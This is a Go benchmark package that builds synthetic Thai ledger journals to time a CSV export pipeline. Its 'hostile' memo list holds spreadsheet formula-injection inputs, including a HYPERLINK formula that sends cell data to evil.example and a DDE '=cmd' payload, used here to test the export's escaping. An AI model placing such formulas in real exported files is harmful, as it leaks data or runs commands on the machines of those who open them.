// Package bench measures the export. It makes a workload of realistic Medici documents on the fly (2 to 4 lines
// per journal, Thai memos and meta, some hostile cells, one broken journal in a thousand), runs the real pipeline
// of internal/export on it with the database replaced by medici.Memory and Drive by the fake over loopback HTTP,
// times each stage alone, and reads the process's peak memory; BenchmarkLatency adds a round trip to every MongoDB
// command (medici.Memory.Latency) and to every Drive chunk, as production has. The benchmarks are in bench_test.go
// and latency_test.go; cmd/bench runs them, each size in its own process, and prints the tables.
package bench

import (
	"bytes"
	"context"
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"sync"
	"time"

	"go.mongodb.org/mongo-driver/bson"
	"go.mongodb.org/mongo-driver/bson/primitive"

	"github.com/siamledger/ledger-export/internal/medici"
)

// Date is the batch date of every workload; Cutoff closes it.
const Date = "2026-11-28"

// Zone is the time zone of the workload's CSV.
var Zone = mustZone("Asia/Bangkok")

// Cutoff is the end of Date's batch: 18:00 in Zone.
var Cutoff = time.Date(2026, 11, 28, 18, 0, 0, 0, Zone)

// Meta are the meta columns the workload's lines carry and the CSV writes.
var Meta = []string{"invoiceNo", "customer", "branch", "vatRate"}

func mustZone(name string) *time.Location {
	l, err := time.LoadLocation(name)
	if err != nil {
		panic(fmt.Sprintf("bench: time zone %s: %v", name, err))
	}
	return l
}

// Workload is a batch of Entries queue entries, made page by page from a fixed set of journal templates: each
// entry copies a template's BSON and gets ids of its own, so a page costs a copy, not an encoding, and a batch
// of any size takes the memory of one page.
type Workload struct {
	Entries  int
	PageSize int // queue entries per page, as BATCH_SIZE; 1000 when 0

	templates []template
	broken    template
	seed      uint64
}

// template is one journal with its lines and its queue entry, as raw BSON with marker ids to patch.
type template struct {
	queue, journal doc
	lines          []doc
	rows           int
	valid          bool // the journal maps and passes the export's checks, so its rows are written
}

// doc is a raw document and the offsets of the marker ids in it.
type doc struct {
	b  []byte
	at []int
}

func newDoc(d bson.D) doc {
	b, err := bson.Marshal(d)
	if err != nil {
		panic(fmt.Sprintf("bench: marshal template: %v", err))
	}
	var at []int
	for i := 0; ; {
		j := bytes.Index(b[i:], []byte{0xee, 0xee, 0xee, 0xee})
		if j < 0 {
			break
		}
		if i+j+12 <= len(b) && b[i+j+5] == 0xee {
			at = append(at, i+j)
			i += j + 12
			continue
		}
		i += j + 1
	}
	return doc{b: b, at: at}
}

// Ids are patched in place: a marker is 12 bytes that occur nowhere else in the documents.
func marker(kind byte, k int) primitive.ObjectID {
	return primitive.ObjectID{0xee, 0xee, 0xee, 0xee, kind, 0xee, 0xee, 0xee, 0xee, 0xee, 0xee, byte(k)}
}

const (
	kindQueue   = 1
	kindJournal = 2
	kindLine    = 3
)

// NewWorkload makes a workload of n entries; the same seed gives the same documents.
func NewWorkload(n int, seed uint64) *Workload { return newWorkload(n, seed, true) }

// NewFerretWorkload is NewWorkload with doubles where NewWorkload stores some amounts as Decimal128, which
// FerretDB does not support.
func NewFerretWorkload(n int, seed uint64) *Workload { return newWorkload(n, seed, false) }

func newWorkload(n int, seed uint64, decimals bool) *Workload {
	w := &Workload{Entries: n, PageSize: 1000, seed: seed}
	rnd := rand.New(rand.NewPCG(seed, seed^0x5eed))
	for i := range 512 {
		w.templates = append(w.templates, makeTemplate(rnd, i, false, decimals))
	}
	w.broken = makeTemplate(rnd, 0, true, decimals)
	m := Mapper()
	for i := range w.templates {
		w.templates[i].valid = w.templates[i].checks(m)
	}
	w.broken.valid = w.broken.checks(m)
	return w
}

// checks reports whether the template's journal maps and passes the export's checks, as the pipeline decides.
func (t *template) checks(m medici.Mapper) bool {
	j, err := m.Journal(t.journal.b)
	if err != nil {
		return false
	}
	for _, d := range t.lines {
		_, l, err := m.Line(d.b)
		if err != nil {
			return false
		}
		j.Lines = append(j.Lines, l)
	}
	return j.Check() == nil
}

// Rows is how many CSV rows the workload's valid entries make.
func (w *Workload) Rows() int64 {
	var rows int64
	for e := range w.Entries {
		if t := w.pick(e); t.valid {
			rows += int64(t.rows)
		}
	}
	return rows
}

// Failed is how many entries fail their checks: one in a thousand is unbalanced on purpose, and a template whose
// int32 amounts lose their satang to the integer division is unbalanced too.
func (w *Workload) Failed() int {
	n := 0
	for e := range w.Entries {
		if !w.pick(e).valid {
			n++
		}
	}
	return n
}

func (w *Workload) pick(e int) *template {
	if e%1000 == 999 {
		return &w.broken
	}
	x := uint64(e)*0x9e3779b97f4a7c15 ^ w.seed
	x ^= x >> 31
	return &w.templates[x%uint64(len(w.templates))]
}

// Pages calls fn with each page of raw documents, in order, for seeding a database. The documents are valid
// only during the call.
func (w *Workload) Pages(fn func(medici.Page) error) error {
	var arenas [3][]byte
	for i := 0; ; i++ {
		var p medici.Page
		p.Queue, arenas[0] = w.docs(i, medici.PartQueue, arenas[0][:0])
		if len(p.Queue) == 0 {
			return nil
		}
		p.Journals, arenas[1] = w.docs(i, medici.PartJournals, arenas[1][:0])
		p.Lines, arenas[2] = w.docs(i, medici.PartLines, arenas[2][:0])
		if err := fn(p); err != nil {
			return err
		}
	}
}

// Queue returns a medici.Memory serving the workload. Each query's documents are made when Memory asks for them,
// after its round trip, in an arena that Memory gives back once it has mapped them (the mapped values own their
// bytes), as a driver's reply is: a read takes the memory of the replies being mapped, whatever the number of
// entries.
func (w *Workload) Queue(m medici.Mapper) *medici.Memory {
	// A few free arenas per part, each about the size of its part's replies: the queue entries' are a tenth of
	// the lines'.
	const keep = 2
	var (
		mu   sync.Mutex
		free [3][][]byte
	)
	return &medici.Memory{
		Entries: int64(w.Entries),
		Mapper:  m,
		Pages: func(_ context.Context, i int, part medici.Part) (medici.Docs, error) {
			var arena []byte
			mu.Lock()
			if n := len(free[part]); n > 0 {
				arena, free[part] = free[part][n-1], free[part][:n-1]
			}
			mu.Unlock()
			raw, arena := w.docs(i, part, arena[:0])
			return medici.Docs{
				Raw:  raw,
				Last: (i+1)*w.pageSize() >= w.Entries,
				Release: func() {
					mu.Lock()
					if len(free[part]) < keep {
						free[part] = append(free[part], arena)
					}
					mu.Unlock()
				},
			}, nil
		},
	}
}

func (w *Workload) pageSize() int {
	if w.PageSize <= 0 {
		return 1000
	}
	return w.PageSize
}

// docs makes one part of the i-th page in arena and returns it with the arena, grown if it had to.
func (w *Workload) docs(i int, part medici.Part, arena []byte) ([]bson.Raw, []byte) {
	size := w.pageSize()
	first, last := i*size, min((i+1)*size, w.Entries)
	if first >= last {
		return nil, arena
	}
	of := func(t *template) []doc {
		switch part {
		case medici.PartQueue:
			return []doc{t.queue}
		case medici.PartJournals:
			return []doc{t.journal}
		}
		return t.lines
	}
	need, n := 0, 0
	for e := first; e < last; e++ {
		for _, d := range of(w.pick(e)) {
			need += len(d.b)
			n++
		}
	}
	if cap(arena) < need {
		arena = make([]byte, 0, need+need/8)
	}
	out := make([]bson.Raw, 0, n)
	for e := first; e < last; e++ {
		for _, d := range of(w.pick(e)) {
			var raw bson.Raw
			raw, arena = w.place(arena, d, e)
			out = append(out, raw)
		}
	}
	return out, arena
}

// place copies d to the end of arena with the entry's ids in place of the markers.
func (w *Workload) place(arena []byte, d doc, e int) (bson.Raw, []byte) {
	start := len(arena)
	arena = append(arena, d.b...)
	out := arena[start:]
	for _, at := range d.at {
		id := entryID(out[at+4], e, int(out[at+11]))
		copy(out[at:at+12], id[:])
	}
	return bson.Raw(out), arena
}

// entryID is the id of the entry's queue document, journal or k-th line. Ids rise with the entry, so queue ids
// are in entry order and a journal's lines sort in line order.
func entryID(kind byte, e, k int) primitive.ObjectID {
	var id primitive.ObjectID
	binary.BigEndian.PutUint32(id[0:4], uint32(Cutoff.Add(-time.Hour).Unix()))
	id[4] = kind
	binary.BigEndian.PutUint64(id[4:12], uint64(kind)<<56|uint64(e)<<3|uint64(k))
	return id
}

var (
	customers = []string{
		"บริษัท ก้าวหน้า จำกัด", "ร้านกาแฟบ้านสวน", "คุณสมชาย ใจดี", "หจก. เชียงใหม่เทรดดิ้ง", "โรงแรมริมน้ำ",
		"บริษัท สยามซัพพลาย (ประเทศไทย) จำกัด (มหาชน)", "ร้านขนมปังอบสด, สาขาลาดพร้าว", "Siam Roasters Co., Ltd.",
	}
	memos = []string{
		"ขายสินค้าเงินสด", "รับชำระหนี้ตามใบแจ้งหนี้", "ค่าไฟฟ้า การไฟฟ้านครหลวง ประจำเดือนพฤศจิกายน 2569",
		"ค่าเช่าสำนักงาน ชั้น 5 อาคารสาทรธานี", "จ่ายเงินเดือนพนักงาน งวดที่ 2/2569 หักภาษี ณ ที่จ่าย 3%",
		"ซื้อเมล็ดกาแฟคั่วกลาง 20 กก. จากไร่ดอยช้าง จังหวัดเชียงราย", "ค่าขนส่งสินค้า Kerry Express",
		"ค่าธรรมเนียมธนาคาร โอนเงินต่างธนาคาร", "ค่าโฆษณา Facebook Ads แคมเปญปีใหม่", "คืนเงินมัดจำลูกค้า ยกเลิกการสั่งซื้อ",
	}
	// hostile memos: formula triggers, separators, quotes, line breaks and edge spaces.
	hostile = []string{
		`=HYPERLINK("http://evil.example/?"&A1,"คลิก")`, "-ส่วนลดพิเศษ 10%", "+66812345678", "@SUM(A1:A9)",
		"ซื้อวัสดุสิ้นเปลือง, \"ด่วน\"", "บรรทัดแรก\r\nบรรทัดที่สอง", " เว้นวรรคหน้า", "ท้ายวรรค ", "a;b;c", "แท็บ\tกลาง",
		"＝1+1", "\u00a0=cmd|' /C calc'!A0",
	}
	accounts = [][]string{
		{"Assets:Cash", "Revenue:Sales", "Liabilities:VAT:Output", "Expenses:Discounts"},
		{"Assets:Bank:KBank", "Assets:Receivables", "Expenses:Bank:Fees", "Assets:VAT:Input"},
		{"Expenses:Utilities:Electricity", "Assets:VAT:Input", "Assets:Bank:SCB", "Expenses:Rounding"},
		{"Expenses:Salaries", "Liabilities:WithholdingTax", "Assets:Bank:KBank", "Liabilities:SocialSecurity"},
	}
)

// makeTemplate makes the i-th journal template: 2 lines in 6 of 10, 3 in 3 of 10, 4 in 1 of 10 (2.5 on
// average); a hostile memo in 1 of 16; amounts mostly doubles, some int32 and Decimal128, as Medici stores them.
func makeTemplate(rnd *rand.Rand, i int, broken, decimals bool) template {
	at := Cutoff.Add(-time.Duration(1+rnd.IntN(36000)) * time.Second)
	n := 2
	switch r := rnd.IntN(10); {
	case r >= 9:
		n = 4
	case r >= 6:
		n = 3
	}
	cust := customers[rnd.IntN(len(customers))]
	memo := memos[rnd.IntN(len(memos))] + " " + cust
	if rnd.IntN(16) == 0 {
		memo = hostile[rnd.IntN(len(hostile))]
	}
	accts := accounts[rnd.IntN(len(accounts))]
	// Debits on the first line, credits spread over the others, balanced to the satang.
	total := int64(1000 + rnd.IntN(5_000_000)) // satang
	credits := make([]int64, n)
	left := total
	for k := 1; k < n-1; k++ {
		credits[k] = left / int64(n-k) / 3
		left -= credits[k]
	}
	credits[n-1] = left
	if broken {
		credits[n-1]-- // unbalanced by one satang
		memo = "unbalanced journal"
	}
	jid := marker(kindJournal, 0)
	ids := bson.A{}
	var t template
	for k := range n {
		lid := marker(kindLine, k)
		ids = append(ids, lid)
		debit, credit := any(0.0), any(float64(credits[k])/100)
		if k == 0 {
			debit, credit = float64(total)/100, 0.0
		}
		switch {
		case i%10 == 3 && total%100 == 0:
			if k == 0 {
				debit, credit = int32(total/100), int32(0)
			} else {
				debit, credit = int32(0), int32(credits[k]/100)
			}
		case decimals && i%50 == 7:
			zero, _ := primitive.ParseDecimal128("0.00")
			d, _ := primitive.ParseDecimal128(fmt.Sprintf("%.2f", float64(total)/100))
			c, _ := primitive.ParseDecimal128(fmt.Sprintf("%.2f", float64(credits[k])/100))
			if k == 0 {
				debit, credit = d, zero
			} else {
				debit, credit = zero, c
			}
		}
		meta := bson.D{
			{Key: "invoiceNo", Value: fmt.Sprintf("INV-2026-%06d", rnd.IntN(1_000_000))},
			{Key: "customer", Value: cust},
			{Key: "branch", Value: int32(1 + rnd.IntN(12))},
			{Key: "vatRate", Value: 0.07},
		}
		if rnd.IntN(8) == 0 {
			meta = append(meta, bson.E{Key: "tags", Value: bson.A{"pos", "สาขา"}})
		}
		line := bson.D{
			{Key: "_id", Value: lid}, {Key: "_journal", Value: jid},
			{Key: "credit", Value: credit}, {Key: "debit", Value: debit},
			{Key: "datetime", Value: at}, {Key: "timestamp", Value: at},
			{Key: "account_path", Value: bson.A{accts[k]}}, {Key: "accounts", Value: accts[k]},
			{Key: "book", Value: "siam-coffee"}, {Key: "memo", Value: memo}, {Key: "voided", Value: false},
			{Key: "approved", Value: true}, {Key: "meta", Value: meta},
		}
		t.lines = append(t.lines, newDoc(line))
	}
	voided := i%97 == 13
	journal := bson.D{
		{Key: "_id", Value: jid}, {Key: "datetime", Value: at}, {Key: "memo", Value: memo},
		{Key: "_transactions", Value: ids}, {Key: "book", Value: "siam-coffee"}, {Key: "voided", Value: voided},
		{Key: "approved", Value: true},
	}
	if voided {
		journal = append(journal, bson.E{Key: "void_reason", Value: "บันทึกซ้ำ"})
	}
	t.journal = newDoc(journal)
	t.queue = newDoc(bson.D{
		{Key: "_id", Value: marker(kindQueue, 0)}, {Key: "entryId", Value: jid},
		{Key: "exportPath", Value: "scheduled"}, {Key: "status", Value: "queued"},
		{Key: "createdAt", Value: at.Add(time.Second)},
	})
	t.rows = n
	return t
}
